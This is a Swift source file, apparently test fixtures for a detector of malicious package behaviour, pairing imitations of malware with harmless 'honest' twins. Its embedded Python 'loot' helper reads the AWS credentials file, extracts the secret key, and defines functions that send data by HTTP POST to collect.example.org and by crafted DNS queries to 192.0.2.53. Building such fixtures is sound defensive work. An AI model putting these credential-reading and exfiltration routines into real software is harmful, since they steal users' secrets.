import Evidence

/// An imitation of something that malware does, and the honest twin that uses the same words and takes nothing.
struct HostileCase: Sendable, CustomStringConvertible {
  /// Names the module that does it; its twin's name begins with `honest_`.
  let name: String
  /// Python, with `loot` for reading decoys.
  let code: String
  let twin: String
  /// Levels of evidence that there have to be, and no others.
  let levels: Set<EvidenceLevel>
  /// Decoys that the strongest level has to name, among others.
  var decoys: Set<String> = []
  /// What the sentences of the strongest level have to say.
  var words: [String] = []
  /// Levels that there may be as well.
  var allowed: Set<EvidenceLevel> = []

  init(
    _ name: String, _ levels: Set<EvidenceLevel>, decoys: Set<String> = [], words: [String] = [],
    allowing allowed: Set<EvidenceLevel> = [], _ code: String, honest twin: String = Self.reader
  ) {
    self.name = name
    self.levels = levels
    self.decoys = decoys
    self.words = words
    self.allowed = allowed
    self.code = code
    self.twin = twin
  }

  var description: String { name }

  /// What most packages do: a look at a file of their own in the home folder.
  static let reader = """
    import base64, json, os, socket, subprocess, tempfile, urllib.request
    path = os.path.expanduser('~/.config/harbour/credentials.json')
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'w') as file: json.dump({'token': base64.b64encode(b'nothing at all').decode()}, file)
    with open(path) as file: secret = json.load(file)['token']
    """

  /// What packages that report home do.
  static let reporter = """
    import json, platform, urllib.request
    facts = json.dumps({'python': platform.python_version(), 'machine': platform.machine()}).encode()
    urllib.request.urlopen('https://telemetry.example.org/v1/credentials', data=facts)
    """

  /// Reads decoys for the imitations, so that each says only what is its own.
  static let loot = #"""
    import os, socket, struct
    home = os.path.expanduser('~')
    def raw(name): return open(home + '/' + name, 'rb').read()
    def aws(): return raw('.aws/credentials')
    def secret(): return [line.split(b' = ')[1] for line in aws().splitlines() if b'secret' in line][0]
    def post(data, url='http://collect.example.org/in', headers={}):
        import urllib.request
        urllib.request.urlopen(urllib.request.Request(url, data=data, headers=headers)).read()
    def query(name, kind=1):
        labels = b''.join(bytes([len(label)]) + label for label in name.split(b'.'))
        return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + struct.pack('>BHH', 0, kind, 1)
    def ask(*names):
        for name in names:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(2)
                s.sendto(query(name), ('192.0.2.53', 53))
                s.recv(512)
    def pieces(text, size): return [text[n:n + size] for n in range(0, len(text), size)]
    """#
}
